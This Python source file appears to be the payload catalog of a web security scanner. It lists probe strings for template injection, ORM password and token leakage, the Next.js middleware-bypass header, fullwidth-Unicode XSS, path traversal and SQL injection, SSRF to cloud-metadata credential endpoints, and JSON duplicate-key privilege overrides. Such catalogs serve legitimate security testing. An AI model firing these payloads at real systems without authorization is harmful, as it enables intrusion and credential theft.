"""Built-in payload catalog for every scanner module."""

from typing import List, Optional

from logicscan.core.models import PayloadEntry

# module id -> display name
MODULES = {
    "ssti": "SSTI",
    "orm": "ORM Leak",
    "nextjs": "Next.js Cache",
    "unicode": "Unicode Normalization",
    "ssrf": "SSRF Redirect",
    "parser": "Parser Differential",
    "http2": "HTTP/2 CONNECT",
    "etag": "ETag XS-Leak",
}


def default_payload(module: str, category: str, value: str, description: str,
                    *cves: str) -> PayloadEntry:
    return PayloadEntry(module=module, category=category, value=value,
                        description=description, cve_refs=list(cves), added_by="default")


def engine_detect(module: str, value: str, expected: str, description: str) -> PayloadEntry:
    entry = default_payload(module, "engine-detect", value, description)
    entry.expected_response = expected
    return entry


# ── ssti ───────────────────────────────────────────────────────

def _ssti() -> List[PayloadEntry]:
    d = default_payload
    return [
        d("ssti", "polyglot", "<%'${{/#{@}}%>{{", "Error polyglot, breaks most template engines"),
        d("ssti", "polyglot", "p \">[[${{1}}]]", "Non-error polyglot #1"),
        d("ssti", "polyglot", "<%=1%>@*#{1}", "Non-error polyglot #2"),
        d("ssti", "polyglot", "{##}/*{{.}}*/", "Non-error polyglot #3"),
        d("ssti", "polyglot", "${{<%[%'\"}}%\\", "Classic fuzz string"),
        d("ssti", "polyglot", "{{7*7}}${7*7}<%=7*7%>#{7*7}{7*7}${{7*7}}", "Math polyglot"),

        d("ssti", "error-trigger", "{{", "Jinja2/Twig unclosed"),
        d("ssti", "error-trigger", "${", "Freemarker/Java EL"),
        d("ssti", "error-trigger", "<%", "ERB/JSP"),
        d("ssti", "error-trigger", "#{", "Pebble/Thymeleaf"),
        d("ssti", "error-trigger", "{%", "Jinja2 block"),
        d("ssti", "error-trigger", "{{7/0}}", "Division by zero - Jinja2", "CVE-2025-1302"),
        d("ssti", "error-trigger", "${7/0}", "Division by zero - Java EL"),
        d("ssti", "error-trigger", "<%=7/0%>", "Division by zero - ERB"),

        engine_detect("ssti", "{{7*'7'}}", "7777777=Jinja2,49=Twig", "Jinja2 vs Twig differentiator"),
        engine_detect("ssti", "${7*7}", "49=Freemarker/JavaEL/Thymeleaf", "Java template engine detect"),
        engine_detect("ssti", "<%= 7*7 %>", "49=ERB", "ERB detection"),
        engine_detect("ssti", "#{7*7}", "49=Pebble/Thymeleaf", "Pebble/Thymeleaf detection"),
        engine_detect("ssti", "{7*7}", "49=Smarty", "Smarty detection"),
        engine_detect("ssti", "${{7*7}}", "49=Thymeleaf", "Thymeleaf detection"),
        engine_detect("ssti", "{{config}}", "Config=Jinja2", "Jinja2 Flask config leak"),
        engine_detect("ssti", "${.version}", "version=Freemarker", "Freemarker version leak"),
        engine_detect("ssti", "{{_self.env}}", "Twig_Environment=Twig", "Twig environment leak"),
        engine_detect("ssti", "#set($x=7*7)${x}", "49=Velocity", "Velocity detection"),
        engine_detect("ssti", "{{\"meow\".toUpperCase()}}", "MEOW=Pebble", "Pebble string method"),

        # consecutive error / no-error pairs
        d("ssti", "error-based-blind", "{{1/0}}", "Jinja2 error-based blind (error side)"),
        d("ssti", "error-based-blind", "{{1/1}}", "Jinja2 error-based blind (no-error side)"),
        d("ssti", "error-based-blind", "${1/0}", "Java EL boolean error (error side)"),
        d("ssti", "error-based-blind", "${1/1}", "Java EL boolean error (no-error side)"),
        d("ssti", "error-based-blind", "<%=1/0%>", "ERB boolean error (error side)"),
        d("ssti", "error-based-blind", "<%=1/1%>", "ERB boolean error (no-error side)"),
        d("ssti", "error-based-blind", "{{config.__class__}}", "Jinja2 error leaks class name"),
        d("ssti", "error-based-blind", "{{config.SECRET_KEY.__class__}}", "Jinja2 deeper error-based data leak"),
    ]


# ── orm ────────────────────────────────────────────────────────

SENSITIVE_FIELDS = (
    "password", "passwd", "pass", "hash", "password_hash",
    "password_digest", "secret", "token", "api_key", "apikey",
    "api_token", "access_token", "refresh_token", "salt", "otp",
    "totp_secret", "tfa_secret", "two_factor_secret", "resetToken",
    "reset_token", "password_reset_token", "reset_password_token",
    "secret_key", "private_key", "encryption_key", "ssn",
    "credit_card", "card_number", "session_token", "session_key",
    "auth_token", "webhook_secret", "signing_secret", "client_secret",
)

RELATIONAL_PREFIXES = (
    "created_by__", "user__", "author__", "owner__", "admin__",
    "manager__", "assignee__", "reviewer__", "approver__", "creator__",
    "createdBy.", "user.", "author.", "owner.",
)


def _orm() -> List[PayloadEntry]:
    d = default_payload
    out = [
        d("orm", "orm-detect", "password__startswith=a", "Django double-underscore startswith"),
        d("orm", "orm-detect", "password__regex=^a", "Django regex filter"),
        d("orm", "orm-detect", "password__icontains=test", "Django case-insensitive contains"),
        d("orm", "orm-detect", "email__contains=@", "Django contains on email"),
        d("orm", "orm-detect", "created_by__password__startswith=a", "Django relational traversal"),
        d("orm", "orm-detect", "user__password__startswith=a", "Django relational traversal"),
        d("orm", "orm-detect", '{"password":{"startsWith":"a"}}', "Prisma startsWith operator", "CVE-2023-30843"),
        d("orm", "orm-detect", '{"password":{"not":""}}', "Prisma not-empty filter"),
        d("orm", "orm-detect", '{"password":{"contains":"a"}}', "Prisma contains filter"),
        d("orm", "orm-detect", '{"createdBy":{"password":{"startsWith":"a"}}}', "Prisma relational traversal"),
        d("orm", "orm-detect", '{"include":{"createdBy":true}}', "Prisma include returns all fields"),
        d("orm", "orm-detect", "$filter=Password gt 'a'", "OData greater-than filter"),
        d("orm", "orm-detect", "$filter=Password eq null", "OData null check"),
        d("orm", "orm-detect", "$filter=startswith(Password,'a')", "OData startswith function"),
        d("orm", "orm-detect", "$orderby=Password asc", "OData ordering by sensitive field"),
        d("orm", "orm-detect", "$expand=CreatedBy($select=Password)", "OData expand+select"),
        d("orm", "orm-detect", "$select=Password,Token,Secret", "OData select sensitive fields"),
        d("orm", "orm-detect", "q[password_start]=a", "Ransack startswith (Rails)"),
        d("orm", "orm-detect", "q[password_cont]=a", "Ransack contains (Rails)"),
        d("orm", "orm-detect", "q[reset_token_start]=a", "Ransack reset token extraction"),
        d("orm", "orm-detect", "q=password=~a", "Harbor regex filter", "CVE-2025-30086"),
        d("orm", "orm-detect", "q=salt=~a", "Harbor salt leak", "CVE-2025-30086"),
    ]
    out += [d("orm", "sensitive-fields", f, "Sensitive field name for ORM probing",
              "CVE-2023-22894", "CVE-2023-47117", "CVE-2025-64748") for f in SENSITIVE_FIELDS]
    out += [d("orm", "relational-prefixes", p, "Relational traversal prefix") for p in RELATIONAL_PREFIXES]
    return out


# ── nextjs ─────────────────────────────────────────────────────

def _nextjs() -> List[PayloadEntry]:
    d = default_payload
    return [
        d("nextjs", "nextjs-fingerprint", "/_next/static/", "Static asset path"),
        d("nextjs", "nextjs-fingerprint", "/__nextjs_original-stack-frame", "Dev mode indicator"),
        d("nextjs", "nextjs-fingerprint", "/_next/data/", "Data routes"),
        d("nextjs", "nextjs-fingerprint", "/_next/image", "Image optimization"),

        d("nextjs", "nextjs-headers", "x-middleware-prefetch: 1", "Changes response to prefetch format", "CVE-2024-46982"),
        d("nextjs", "nextjs-headers", "x-middleware-subrequest: middleware", "Bypasses middleware entirely", "CVE-2025-29927"),
        d("nextjs", "nextjs-headers", "x-middleware-subrequest: src/middleware",
          "Alternate path for subrequest bypass", "CVE-2025-29927"),
        d("nextjs", "nextjs-headers", "x-nextjs-data: 1", "Forces data request format"),
        d("nextjs", "nextjs-headers", "Rsc: 1", "React Server Components stream"),
        d("nextjs", "nextjs-headers", "Next-Router-State-Tree: %5B%22%22%5D", "Router state manipulation"),
        d("nextjs", "nextjs-headers", "Next-Router-Prefetch: 1", "Prefetch behavior trigger"),
        d("nextjs", "nextjs-headers", "x-invoke-status: 200", "Internal status override"),
        d("nextjs", "nextjs-headers", "x-invoke-path: /", "Internal path override"),

        d("nextjs", "nextjs-params", "__nextDataReq=1", "Forces data request for cache poisoning", "CVE-2024-46982"),
        d("nextjs", "nextjs-params", "_rsc=RANDOM", "RSC param cache key pollution"),
        d("nextjs", "nextjs-params", "__nextLocale=RANDOM", "Locale param"),
    ]


# ── unicode ────────────────────────────────────────────────────

def _unicode() -> List[PayloadEntry]:
    d = default_payload
    return [
        d("unicode", "fullwidth-map", "＜", "Fullwidth < (U+FF1C)"),
        d("unicode", "fullwidth-map", "＞", "Fullwidth > (U+FF1E)"),
        d("unicode", "fullwidth-map", "＇", "Fullwidth ' (U+FF07)"),
        d("unicode", "fullwidth-map", "＂", "Fullwidth \" (U+FF02)"),
        d("unicode", "fullwidth-map", "／", "Fullwidth / (U+FF0F)"),
        d("unicode", "fullwidth-map", "＼", "Fullwidth \\ (U+FF3C)", "CVE-2025-52488"),
        d("unicode", "fullwidth-map", "．", "Fullwidth . (U+FF0E)", "CVE-2024-43093", "CVE-2025-52488"),
        d("unicode", "fullwidth-map", "＠", "Fullwidth @ (U+FF20)"),
        d("unicode", "fullwidth-map", "＝", "Fullwidth = (U+FF1D)"),
        d("unicode", "fullwidth-map", "（", "Fullwidth ( (U+FF08)"),
        d("unicode", "fullwidth-map", "）", "Fullwidth ) (U+FF09)"),
        d("unicode", "fullwidth-map", "；", "Fullwidth ; (U+FF1B)"),
        d("unicode", "fullwidth-map", "｜", "Fullwidth | (U+FF5C)"),
        d("unicode", "fullwidth-map", "＆", "Fullwidth & (U+FF06)"),
        d("unicode", "fullwidth-map", "＃", "Fullwidth # (U+FF03)"),

        d("unicode", "math-equivalent", "ⓐ", "Circled a (U+24D0)"),
        d("unicode", "math-equivalent", "ℌ", "Script capital H (U+210C)"),
        d("unicode", "math-equivalent", "ﬁ", "Ligature fi (U+FB01)"),
        d("unicode", "math-equivalent", "ℝ", "Double-struck R (U+211D)"),
        d("unicode", "math-equivalent", "ℂ", "Double-struck C (U+2102)"),
        d("unicode", "math-equivalent", "ⅇ", "Euler constant e (U+2147)"),
        d("unicode", "math-equivalent", "ⅈ", "Imaginary unit i (U+2148)"),
        d("unicode", "math-equivalent", "¹", "Superscript 1 (U+00B9)"),
        d("unicode", "math-equivalent", "²", "Superscript 2 (U+00B2)"),

        d("unicode", "attack-payloads",
          "＜ｓｃｒｉｐｔ＞ａｌｅｒｔ"
          "（１）＜／ｓｃｒｉｐｔ＞",
          "XSS via fullwidth <script>alert(1)</script>"),
        d("unicode", "attack-payloads",
          "．．／．．／ｅｔｃ／ｐａｓｓｗｄ",
          "Path traversal via fullwidth ../../etc/passwd"),
        d("unicode", "attack-payloads",
          "＼＼ａｔｔａｃｋｅｒ．ｃｏｍ"
          "＼ｓｈａｒｅ",
          "UNC path via fullwidth", "CVE-2025-52488"),
        d("unicode", "attack-payloads", "＇ ＯＲ ＇1＇＝＇1",
          "SQL injection via fullwidth"),
        d("unicode", "attack-payloads", "ａｄｍｉｎ",
          "Username collision via fullwidth 'admin'"),
    ]


# ── ssrf ───────────────────────────────────────────────────────

URL_PARAMS = (
    "url", "link", "redirect", "callback", "next", "return", "dest",
    "target", "uri", "path", "continue", "window", "data", "reference",
    "site", "html", "val", "validate", "domain", "feed", "host", "port",
    "to", "out", "view", "dir", "show", "navigation", "open", "file",
    "doc", "pg", "style", "pdf", "template", "php_path", "img", "src",
    "redirect_uri", "return_url", "next_url", "callback_url", "goto",
    "forward", "location", "jump", "fetch", "load", "proxy", "endpoint",
)


def _ssrf() -> List[PayloadEntry]:
    d = default_payload
    out = [d("ssrf", "url-params", p, "URL parameter name for SSRF testing") for p in URL_PARAMS]
    out += [
        d("ssrf", "internal-targets", "http://127.0.0.1", "Localhost"),
        d("ssrf", "internal-targets", "http://localhost", "Localhost hostname"),
        d("ssrf", "internal-targets", "http://169.254.169.254/latest/meta-data/", "AWS IMDS"),
        d("ssrf", "internal-targets", "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
          "AWS IAM credentials"),
        d("ssrf", "internal-targets", "http://metadata.google.internal/computeMetadata/v1/", "GCP metadata"),
        d("ssrf", "internal-targets", "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
          "Azure metadata"),
        d("ssrf", "internal-targets", "http://100.100.100.200/latest/meta-data/", "Alibaba Cloud metadata"),
        d("ssrf", "internal-targets", "http://169.254.170.2/v2/credentials", "AWS ECS credentials"),
    ]
    return out


# ── parser ─────────────────────────────────────────────────────

def _parser() -> List[PayloadEntry]:
    d = default_payload
    return [
        d("parser", "duplicate-key", '{"role":"user","role":"admin"}', "First-wins vs last-wins role override"),
        d("parser", "duplicate-key", '{"admin":false,"admin":true}', "Boolean admin override"),
        d("parser", "duplicate-key", '{"price":100,"price":0}', "Price manipulation"),

        d("parser", "content-type-confusion", "application/json", "JSON to form-urlencoded swap"),
        d("parser", "content-type-confusion", "application/x-www-form-urlencoded", "Form to JSON swap"),
        d("parser", "content-type-confusion", "text/xml", "JSON to XML swap"),
        d("parser", "content-type-confusion", "multipart/form-data", "JSON to multipart swap"),

        d("parser", "method-override-headers", "X-HTTP-Method-Override: PUT", "Method override to PUT"),
        d("parser", "method-override-headers", "X-HTTP-Method-Override: DELETE", "Method override to DELETE"),
        d("parser", "method-override-headers", "X-HTTP-Method-Override: PATCH", "Method override to PATCH"),
        d("parser", "method-override-headers", "X-Method-Override: PUT", "X-Method-Override to PUT"),
        d("parser", "method-override-headers", "X-HTTP-Method: DELETE", "X-HTTP-Method to DELETE"),
        d("parser", "method-override-headers", "_method=PUT", "Rails-style body method override"),

        d("parser", "url-parsing", "@evil.com", "URL authority confusion"),
        d("parser", "url-parsing", "\\@evil.com", "Backslash URL confusion"),
        d("parser", "url-parsing", "#@evil.com", "Fragment URL confusion"),
        d("parser", "url-parsing", "..;/admin", "Tomcat path traversal"),
        d("parser", "url-parsing", "..%00/admin", "Null byte traversal"),
        d("parser", "url-parsing", "/%2e%2e/admin", "Encoded dot traversal"),
        d("parser", "url-parsing", "/..%252f..%252f", "Double URL encoded traversal"),
    ]


# ── http2 ──────────────────────────────────────────────────────

def _http2() -> List[PayloadEntry]:
    d = default_payload
    return [
        d("http2", "connect-targets", "127.0.0.1:80", "Localhost HTTP"),
        d("http2", "connect-targets", "127.0.0.1:443", "Localhost HTTPS"),
        d("http2", "connect-targets", "127.0.0.1:8080", "Localhost alt HTTP"),
        d("http2", "connect-targets", "127.0.0.1:8443", "Localhost alt HTTPS"),
        d("http2", "connect-targets", "127.0.0.1:3000", "Localhost Node.js"),
        d("http2", "connect-targets", "127.0.0.1:9090", "Localhost proxy/admin"),
        d("http2", "connect-targets", "127.0.0.1:6379", "Localhost Redis"),
        d("http2", "connect-targets", "127.0.0.1:5432", "Localhost PostgreSQL"),
        d("http2", "connect-targets", "localhost:80", "Localhost hostname HTTP"),
        d("http2", "connect-targets", "localhost:443", "Localhost hostname HTTPS"),
        d("http2", "connect-targets", "localhost:8080", "Localhost hostname alt HTTP"),
        d("http2", "connect-targets", "169.254.169.254:80", "AWS IMDS HTTP", "CVE-2025-49630"),
        d("http2", "connect-targets", "169.254.169.254:443", "AWS IMDS HTTPS"),
        d("http2", "connect-targets", "10.0.0.1:80", "Internal network gateway"),
        d("http2", "connect-targets", "172.17.0.1:80", "Docker host"),
        d("http2", "connect-targets", "192.168.1.1:80", "Common LAN gateway"),
    ]


# ── etag ───────────────────────────────────────────────────────

def _etag() -> List[PayloadEntry]:
    d = default_payload
    return [
        d("etag", "cache-headers", "Cache-Control: no-store", "Cache prevention header to check for"),
        d("etag", "cache-headers", "Vary: Cookie", "Vary header for cookie-based caching"),
        d("etag", "cache-headers", "Vary: Authorization", "Vary header for auth-based caching"),
    ]


_BUILDERS = {
    "ssti": _ssti, "orm": _orm, "nextjs": _nextjs, "unicode": _unicode,
    "ssrf": _ssrf, "parser": _parser, "http2": _http2, "etag": _etag,
}


def builtin_payloads(module: Optional[str] = None) -> List[PayloadEntry]:
    """Fresh built-in entries (new ids each call), for one module or all."""
    if module is not None:
        return _BUILDERS[module]()
    out: List[PayloadEntry] = []
    for build in _BUILDERS.values():
        out.extend(build())
    return out
